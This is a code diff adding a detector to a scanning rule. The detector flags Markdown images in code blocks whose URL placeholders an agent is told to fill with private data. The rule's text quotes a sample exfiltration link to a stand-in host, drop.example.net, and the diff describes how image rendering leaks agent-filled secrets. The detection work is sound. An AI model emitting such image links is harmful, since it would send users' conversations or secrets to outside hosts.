@@ -27,8 +27,10 @@ export const rule: Rule = {
       'Image Markdown such as `![x](https://drop.example.net/p?d=SECRET)` leaks when a client renders it.\n',
     ],
   },
-  find: (evidence: Evidence) =>
-    evidence.passages.flatMap(({ segment }) => [...judge(segment, isLesson(evidence)), ...judgeSample(segment)]),
+  find: (evidence: Evidence) => [
+    ...evidence.passages.flatMap(({ segment }) => [...judge(segment, isLesson(evidence)), ...judgeSample(segment)]),
+    ...evidence.segments.flatMap((segment) => judgeShown(segment, evidence)),
+  ],
 }
 
 const IMAGE = /!\[[^\]\n]{0,200}\]\((https?:\/\/[^)\n]{4,400})\)/g
@@ -62,6 +64,38 @@ function judgeSample(segment: Evidence['segments'][number]): readonly Observatio
     const message = `A sample answer shows a picture that reports to ${address.host}`
     return [{ segment, at: index, severity: 'warn', message }]
   })
+}
+
+const LETTERED =
+  /!\[[^\]\n]{0,200}\]\((https?:\/\/[^)\s?]{4,200}\?[^)\s]{0,200}=[^)\s]{0,40}?[{<[]{1,2}(\w{1,30})[}>\]]{1,2}[^)\s]{0,200})\)/g
+
+/** A picture in a block, with a part that the text around says to fill with someone's data. */
+function judgeShown(segment: Evidence['segments'][number], { passages }: Evidence): readonly Observation[] {
+  if (segment.kind !== 'fence' || !segment.text.includes('](http')) return []
+  return [...segment.text.matchAll(LETTERED)].flatMap(
+    ({ index, 1: url = '', 2: hole = '' }): readonly Observation[] => {
+      const address = readAddress(url)
+      if (address === undefined || address.kind === 'code' || !isOutside(address)) return []
+      const filling = passages.filter((each) => isNear(each.segment, segment) && names(each.text, hole))
+      if (filling.length === 0 || PICTURED.test(url)) return []
+      const severity = filling.some(({ text }) => isPrivate(text)) ? 'block' : 'warn'
+      const message = `Displaying the image sends what the agent fills in to ${address.host}`
+      return [{ segment, at: index, severity, message }]
+    },
+  )
+}
+
+function isNear(one: Evidence['segments'][number], other: Evidence['segments'][number]): boolean {
+  return one.file === other.file && one.section === other.section && Math.abs(one.block - other.block) <= 2
+}
+
+function names(text: string, hole: string): boolean {
+  return new RegExp(`[{<[]${hole}[}>\\]]|\`${hole}\``).test(text)
+}
+
+function isPrivate(text: string): boolean {
+  const slots = slotsIn(text)
+  return slots.has('talk') || slots.has('personal') || slots.has('secret')
 }
 
 function judge(segment: Evidence['segments'][number], isTaught: boolean): readonly Observation[] {
